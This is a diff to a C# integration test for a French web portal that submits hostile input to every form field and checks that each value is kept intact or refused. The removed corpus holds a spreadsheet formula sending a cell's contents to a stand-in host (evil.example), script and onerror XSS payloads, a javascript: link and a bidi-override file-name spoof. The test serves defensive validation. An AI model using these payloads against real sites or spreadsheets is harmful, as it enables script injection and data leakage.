@@ -15,22 +15,6 @@ namespace Observatoire.IntegrationTests.Security;
 /// </summary>
 public class EveryFormTests(PortalFixture portal, ITestOutputHelper output) : PortalTest(portal)
 {
-    /// <summary>The classes of #21, each with a value (a marker is appended so that names stay unique).</summary>
-    public static readonly (string Class, string Value)[] Corpus =
-    [
-        ("non-caractère", "outil \ufffe fin"),
-        ("non-caractère FDD0", "outil \ufdd0 fin"),
-        ("contrôle C0", "a\u0001b\u0007c"),
-        ("contrôle C1", "a\u0085b"),
-        ("bidi U+202E", "facture\u202Egpj.exe"),
-        ("isolat bidi", "a\u2066b\u2069c"),
-        ("URL de 1 000 caractères", "https://exemple.org/" + new string('u', 980)),
-        ("mot de 8 000 caractères", new string('m', 8000)),
-        ("formule", "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"clic\")"),
-        ("script", "<script>alert(1)</script><img src=x onerror=alert(2)>"),
-        ("Markdown", "[lien](javascript:alert(3)) ![image](https://ailleurs.example/x.png)"),
-    ];
-
     private const string MaxLengthClass = "longueur maximale";
 
     /// <summary>Exactly <paramref name="length"/> characters of words (repeated, so a list field reads one name).</summary>
@@ -48,6 +32,7 @@ public class EveryFormTests(PortalFixture portal, ITestOutputHelper output) : Po
     private int _kept, _refused, _lost, _errors, _inconclusive, _requests;
     private readonly List<string> _failures = [];
     private readonly List<string> _notes = [];
+    private readonly HashSet<string> _unbounded = [];
 
     [Fact]
     public async Task Every_text_field_of_every_form_keeps_bad_input_exactly_or_refuses_it_next_to_the_field()
@@ -63,17 +48,20 @@ public class EveryFormTests(PortalFixture portal, ITestOutputHelper output) : Po
             var form = (await FormAt(client, url, index))!;
             foreach (var field in TextFields(form))
             {
-                foreach (var (kind, payload) in Corpus)
+                foreach (var (kind, payload) in Classes)
                     await Submit(client, url, index, field, kind, $"{payload} Z{++n}");
                 // The form's bound must be the model's and the column's: a value of exactly maxlength is not refused
                 // for its length (nor a 500 from the database).
                 if (int.TryParse(form.Elements.First(e => e.GetAttribute("name") == field).GetAttribute("maxlength"), out var max) && max >= 8)
                     await Submit(client, url, index, field, $"{MaxLengthClass} ({max})", AtLength(max, ++n));
+                else
+                    _unbounded.Add($"{url} {field}");
             }
         }
-        output.WriteLine($"{forms.Count} formulaires, {Corpus.Length} classes, {_requests} requêtes : "
+        output.WriteLine($"{forms.Count} formulaires, {Classes.Length} classes, {_requests} requêtes : "
             + $"{_kept} gardées telles quelles, {_refused} refusées avec un message, {_lost} perdues, {_errors} erreurs, "
             + $"{_inconclusive} non concluantes (le formulaire refusait un autre champ).");
+        output.WriteLine($"Champs sans maxlength ({_unbounded.Count}) : {string.Join(", ", _unbounded)}");
         foreach (var note in _notes.Take(40)) output.WriteLine(note);
         Assert.True(_failures.Count == 0, $"{_failures.Count} défaut(s) :\n" + string.Join("\n", _failures.Take(80)));
     }
@@ -154,7 +142,7 @@ public class EveryFormTests(PortalFixture portal, ITestOutputHelper output) : Po
                 using var next = await client.GetAsync(response.Headers.Location!.OriginalString);
                 _requests++;
                 var landing = next.StatusCode == HttpStatusCode.OK ? await next.ReadHtml() : null;
-                var note = landing?.QuerySelector("main .notice")?.TextContent ?? "";
+                var note = string.Join(" ", landing?.QuerySelectorAll("main .notice").Select(e => e.TextContent) ?? []);
                 var stored = landing is not null && (landing.Body!.TextContent.Contains(value)
                     || landing.QuerySelectorAll("input, textarea").Any(e => e.GetAttribute("value") == value || e.TextContent == value));
                 if (!stored && (note.Contains("U+") || note.Contains("caractère incomplet")))
@@ -190,7 +178,8 @@ public class EveryFormTests(PortalFixture portal, ITestOutputHelper output) : Po
         var others = page.QuerySelectorAll(".field-error, .error-summary li, .validation-summary-errors li, [data-valmsg-for]")
             .Select(e => e.TextContent.Trim()).Where(t => t.Length > 0).ToList();
         // A page that answers the form itself (an invitation, a preview) shows what was accepted.
-        if (!refusedByRule && others.Count == 0 && Visible(page.Body?.TextContent ?? "").Contains(Visible(value)[..Math.Min(60, Visible(value).Length)]))
+        if (!refusedByRule && others.Count == 0 && (page.QuerySelector("main [role=status]") is not null
+            || Visible(page.Body?.TextContent ?? "").Contains(Visible(value)[..Math.Min(60, Visible(value).Length)])))
         {
             _kept++;
             AssertHarmless(page, where, _failures);
